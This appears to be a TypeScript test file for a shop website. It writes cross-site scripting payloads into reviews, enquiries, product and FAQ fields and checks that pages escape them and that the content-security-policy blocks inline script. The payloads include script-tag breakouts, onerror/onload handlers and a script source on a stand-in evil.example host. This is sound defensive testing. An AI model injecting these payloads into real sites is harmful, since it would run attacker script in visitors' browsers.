import { createHash } from "node:crypto";
import { expect, test } from "vitest";
import { enquiryStamp } from "./support/enquiries.ts";
import { testShop } from "./support/test-shop.ts";

/* Script in every text that customers and staff can write: pages show it as text, and the policy would not let it run. */

const shop = await testShop({ pages: true, listen: true });
const { sql, request } = shop;
const [customer, nila] = [await shop.customer({ verification: "verified" }), await shop.member("catalogue")];

const attacks = [
  `</script><script>steal()</script>`,
  `"><img src=x onerror=steal()>`,
  `'><svg onload=steal()>`,
  `<!--<script>`,
  `]]>&lt;script&gt;steal()&lt;/script&gt;`,
  `\u2028</ScRiPt ><script src=//evil.example/x.js>`,
];
const attack = attacks.join(" ");

async function poison() {
  const product = shop.live.current().catalogue.products.find((each) => !each.enquiry_only);
  if (!product) throw new Error("There is no product.");
  await sql`UPDATE customers SET first_name = ${attacks[0]}, last_name = ${attacks[1]} WHERE id = ${customer.id}`;
  const review = { product_id: product.token, rating: 5, review: attack };
  expect((await request("POST", "/api/product-review", { token: customer.token, body: review })).status).toBe(201);
  const enquiry = {
    ...{ name: attacks[0], email: "asha@clinic.example", contact_no: "9876543210", subject: attacks[1] },
    ...{ description: attack, form_stamp: enquiryStamp(shop) },
  };
  expect((await request("POST", "/api/send-inquiry", { body: enquiry })).status).toBeOneOf([200, 201]);

  // Through the form where it accepts everything, directly into the tables where it refuses some.
  const { id } = product;
  const { data } = (await request("GET", `/api/staff/products/${id}`, { staff: nila })).body;
  const changed = { ...data, name: attacks[0], short_description: attack, description_html: `<p>${attack}</p>` };
  const saved = await request("PUT", `/api/staff/products/${id}`, { staff: nila, body: changed });
  expect([saved.status, saved.body?.errors]).toEqual([200, undefined]);
  await sql`UPDATE products SET name = ${attack}, sterilisation = ${attack} WHERE id = ${id}`;
  await sql`UPDATE variants SET ref_no = left(${attack}, 40) || id WHERE product_id = ${id}`;
  await sql`UPDATE product_pictures SET alt = ${attack}`;
  await sql`UPDATE variant_attributes SET value = left(${attack}, 300) WHERE variant_id IN (SELECT id FROM variants WHERE product_id = ${id})`;
  await sql`UPDATE attributes SET name = ${attacks[0]} || id`;
  await sql`UPDATE categories SET name = ${attacks[1]} || id`;
  await sql`UPDATE sub_categories SET name = ${attacks[2]} || id`;
  await sql`UPDATE faq_entries SET question = ${attack} || id, answer = ${attack}`;
  await shop.live.refresh();
  return product;
}

/** Tags as a browser parses them: a script's content is text up to the first end tag. */
function parseTags(html: string) {
  const scripts: { attributes: string; text: string }[] = [];
  const rest = html.replace(/<script\b([^>]*)>([\s\S]*?)<\/script[^>]*>/gi, (_whole, attributes, text) => {
    scripts.push({ attributes, text });
    return "";
  });
  return { scripts, tags: rest.match(/<[a-z!/](?:"[^"]*"|'[^']*'|[^>"'])*>/gi) ?? [] };
}

const product = await poison();
const address = `/product/product-details/${product.slug}/${product.token}`;

test.each([
  ["the product page", address, {}],
  ["the product page of a customer", address, { cookie: "signed_in=1" }],
  ["the product page with all reviews", `${address}?reviews=50`, {}],
  ["the list", `/product?search=${encodeURIComponent(attack)}`, {}],
  ["a category", `/product?category=${product.category_id}`, {}],
  ["the home page", "/", {}],
  ["the questions", "/faq", {}],
  ["the contact page", `/contact-us?product=${product.token}`, {}],
  ["the sign-in page", `/signin?next=${encodeURIComponent(attack)}`, {}],
])("%s runs no script that was written into a text", async (_what, path, headers) => {
  const { status, headers: told, body } = await request("GET", path, { headers });
  expect(status).toBe(200);
  // The attack is on the page, so this really tests escaping.
  expect(body).toContain("steal");
  const { scripts, tags } = parseTags(body);
  const policy = told["content-security-policy"] ?? "";
  for (const { attributes, text } of scripts) {
    expect(attributes).not.toContain("evil");
    // Data blocks, which browsers never execute. One is empty.
    if (/ type="application\/(?:ld\+)?json"/.test(attributes)) expect(() => JSON.parse(text || "null")).not.toThrow();
    else if (!attributes.includes(" src="))
      expect(policy).toContain(createHash("sha256").update(text).digest("base64"));
    // The only sequences that change where a script ends.
    expect(text).not.toMatch(/<!--|<script/i);
  }
  expect(
    tags.filter((tag) =>
      /\son\w+\s*=|javascript:|steal\(\)(?![^"]*")|<(?:img src=x|svg onload)/i.test(tag.replace(/"[^"]*"/g, '""')),
    ),
  ).toEqual([]);
  expect(tags.filter((tag) => /^<script|^<base|^<iframe|^<object/i.test(tag))).toEqual([]);
  expect(policy).toMatch(/script-src (?:'none'|'self'(?: 'sha256-[A-Za-z0-9+/=]+')+)$/);
});
